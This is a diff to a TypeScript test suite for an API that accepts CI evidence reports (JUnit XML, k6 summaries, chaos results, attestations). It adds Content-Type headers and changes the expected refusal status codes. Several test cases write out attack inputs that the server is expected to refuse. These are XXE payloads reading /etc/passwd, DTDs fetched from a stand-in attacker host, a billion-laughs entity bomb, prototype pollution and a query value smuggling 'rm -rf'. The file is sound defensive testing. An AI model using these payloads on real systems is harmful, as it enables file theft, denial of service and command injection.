@@ -73,10 +73,15 @@ afterAll(async () => {
 
 type TSendOptions = { query?: string; token?: string | null; headers?: Record<string, string> };
 
+/** What CI sends: the Content-Type each endpoint reads, unless a test says otherwise. */
+const CONTENT_TYPE: Record<TRoute, string> = { junit: "application/xml", k6: "application/json", chaos: "application/json", attestations: "application/json" };
+
 function buildRequest(route: TRoute, body: BodyInit | null, { query = "", token = tokens.writer, headers = {} }: TSendOptions = {}): Request {
+  // A FormData body brings its own multipart Content-Type.
+  const type = body instanceof FormData ? {} : { "content-type": CONTENT_TYPE[route] };
   return new Request(`http://preflight.test/api/v1/evidence/${route}${query ? `?${query}` : ""}`, {
     method: "POST",
-    headers: { ...(token === null ? {} : { authorization: `Bearer ${token}` }), ...headers },
+    headers: { ...type, ...(token === null ? {} : { authorization: `Bearer ${token}` }), ...headers },
     body,
     // Needed for a ReadableStream body; ignored for the others.
     duplex: "half",
@@ -276,19 +281,19 @@ describe("JUnit reports refused", () => {
 <testsuite name="&lol9;"><testcase name="&lol9;"/></testsuite>`;
 
   it.each([
-    ["a billion-laughs entity bomb", BILLION_LAUGHS, DOCTYPE_REFUSED],
-    ["an external entity reading /etc/passwd (XXE)", `<!DOCTYPE testsuite [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuite><testcase name="&x;"/></testsuite>`, DOCTYPE_REFUSED],
-    ["an external DTD", `<?xml version="1.0"?><!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd"><testsuite><testcase name="a"/></testsuite>`, DOCTYPE_REFUSED],
-    ["a parameter entity fetching a remote DTD", `<!DOCTYPE testsuite [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]><testsuite><testcase name="a"/></testsuite>`, DOCTYPE_REFUSED],
-    ["a truncated report", `<testsuites>\n<testsuite name="gateway">\n<testcase name="a"><failure>boom`, "the document ends while <testsuites>, <testsuite>, <testcase>, <failure> are still open (truncated?)"],
-    ["an HTML error page instead of the report", `<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>`, "expected JUnit XML, got an HTML page"],
-    ["a document with the wrong root element", `<results><test name="a"/></results>`, "expected <testsuites> or <testsuite> as the root element, got <results>"],
-    ["two root elements", `<testsuite><testcase name="a"/></testsuite><testsuite><testcase name="b"/></testsuite>`, "Multiple possible root nodes found"],
-    ["a report with no testcase at all", `<testsuites><testsuite name="gateway" tests="0"/></testsuites>`, "the report has no <testcase> elements: nothing to count"],
-    ["a k6 summary sent to the JUnit endpoint", JSON.stringify({ metrics: {} }), "expected JUnit XML, got JSON"],
-    ["element names that would pollute Object.prototype", `<testsuite><__proto__><polluted>yes</polluted></__proto__><testcase name="a"/></testsuite>`, '"__proto__" is a reserved JavaScript keyword'],
-  ])("%s", async (_name, xml, error) => {
-    await expectRefused(() => send("junit", xml, { query: JUNIT_QUERY }), 400, error);
+    ["a billion-laughs entity bomb", BILLION_LAUGHS, DOCTYPE_REFUSED, 422],
+    ["an external entity reading /etc/passwd (XXE)", `<!DOCTYPE testsuite [<!ENTITY x SYSTEM "file:///etc/passwd">]><testsuite><testcase name="&x;"/></testsuite>`, DOCTYPE_REFUSED, 422],
+    ["an external DTD", `<?xml version="1.0"?><!DOCTYPE testsuite SYSTEM "http://attacker.invalid/junit.dtd"><testsuite><testcase name="a"/></testsuite>`, DOCTYPE_REFUSED, 422],
+    ["a parameter entity fetching a remote DTD", `<!DOCTYPE testsuite [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]><testsuite><testcase name="a"/></testsuite>`, DOCTYPE_REFUSED, 422],
+    ["a truncated report", `<testsuites>\n<testsuite name="gateway">\n<testcase name="a"><failure>boom`, "the document ends while <testsuites>, <testsuite>, <testcase>, <failure> are still open (truncated?)", 400],
+    ["an HTML error page instead of the report", `<html><head><title>502 Bad Gateway</title></head><body>nginx</body></html>`, "expected JUnit XML, got an HTML page", 400],
+    ["a document with the wrong root element", `<results><test name="a"/></results>`, "expected <testsuites> or <testsuite> as the root element, got <results>", 422],
+    ["two root elements", `<testsuite><testcase name="a"/></testsuite><testsuite><testcase name="b"/></testsuite>`, "Multiple possible root nodes found", 400],
+    ["a report with no testcase at all", `<testsuites><testsuite name="gateway" tests="0"/></testsuites>`, "the report has no <testcase> elements: nothing to count", 422],
+    ["a k6 summary sent to the JUnit endpoint", JSON.stringify({ metrics: {} }), "expected JUnit XML, got JSON", 400],
+    ["element names that would pollute Object.prototype", `<testsuite><__proto__><polluted>yes</polluted></__proto__><testcase name="a"/></testsuite>`, '"__proto__" is a reserved JavaScript keyword', 400],
+  ])("%s", async (_name, xml, error, status) => {
+    await expectRefused(() => send("junit", xml, { query: JUNIT_QUERY }), status, error);
     expect(({} as Record<string, unknown>).polluted).toBeUndefined();
   });
 
@@ -302,7 +307,7 @@ describe("JUnit reports refused", () => {
     ["an unknown ?kind=", "suite=gateway&kind=smoke", 'invalid kind "smoke": expected one of unit, integration, security, performance, e2e'],
     ["a ?kind= in the wrong case", "suite=gateway&kind=Unit", 'invalid kind "Unit"'],
   ])("a valid report with %s", async (_name, query, error) => {
-    await expectRefused(() => send("junit", VALID_JUNIT, { query }), 400, error);
+    await expectRefused(() => send("junit", VALID_JUNIT, { query }), 422, error);
   });
 });
 
@@ -352,7 +357,7 @@ describe("bodies refused before any parser sees them", () => {
     ["a UTF-16 report with a byte-order mark", Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(VALID_JUNIT, "utf16le")])],
     ["bytes that are no text at all", Buffer.from([0x3c, 0xc3, 0x28, 0xa0, 0xa1, 0xf0, 0x28, 0x8c, 0xbc])],
   ])("refuses %s as not UTF-8 (400)", async (_name, bytes) => {
-    await expectRefused(() => send("junit", new Uint8Array(bytes), { query: JUNIT_QUERY }), 400, "the body is not valid UTF-8 text");
+    await expectRefused(() => send("junit", new Uint8Array(bytes), { query: JUNIT_QUERY }), 400, "the body is not UTF-8: byte 0x");
   });
 });
 
@@ -374,14 +379,14 @@ describe("k6 summaries refused", () => {
     ["an error rate above 100 %", withMetric("http_req_failed", { ...summary.metrics.http_req_failed, value: 3 }), "metrics.http_req_failed.value: Too big"],
     ["a machine-readable summary of an unknown major version", JSON.stringify({ ...fixtureJson("k6-machine-readable.json"), version: "2.0.0" }), "unsupported machine-readable summary version 2.0.0"],
   ])("%s", async (_name, body, error) => {
-    await expectRefused(() => send("k6", body, { query: "test=checkout" }), 400, error);
+    await expectRefused(() => send("k6", body, { query: "test=checkout" }), error.startsWith("the body is not valid JSON") ? 400 : 422, error);
   });
 
   it.each([
     ["no ?test=", "", "the load-test name (?test=) is required"],
     ["a ?test= with a shell metacharacter", "test=checkout%3Brm%20-rf", 'invalid load-test name (?test=) "checkout;rm -rf"'],
   ])("a valid summary with %s", async (_name, query, error) => {
-    await expectRefused(() => send("k6", JSON.stringify(summary), { query }), 400, error);
+    await expectRefused(() => send("k6", JSON.stringify(summary), { query }), 422, error);
   });
 });
 
@@ -402,7 +407,7 @@ describe("chaos experiments refused", () => {
     ["a Litmus ChaosResult with an unknown verdict", litmus({ phase: "Completed", verdict: "Passed" }), "target=api", "status.experimentStatus.verdict: expected verdict Pass, Fail, Stopped, Awaited or Error"],
     ["a Litmus ChaosResult with no end time", { ...litmus(), metadata: { name: "api-pod-delete-pod-delete", creationTimestamp: "2026-11-26T13:58:04Z" } }, "target=api", "has no end time"],
   ])("%s", async (_name, body, query, error) => {
-    await expectRefused(() => send("chaos", JSON.stringify(body), { query }), 400, error);
+    await expectRefused(() => send("chaos", JSON.stringify(body), { query }), 422, error);
   });
 });
 
@@ -418,7 +423,7 @@ describe("attestations refused", () => {
     ["no fields at all", {}, "invalid attestation: check: expected the check's id"],
     ["JSON null", null, "expected an attestation object, got null"],
   ])("%s", async (_name, body, error) => {
-    await expectRefused(() => send("attestations", JSON.stringify(body)), 400, error);
+    await expectRefused(() => send("attestations", JSON.stringify(body)), 422, error);
   });
 
   it("refuses a body that is not JSON", async () => {
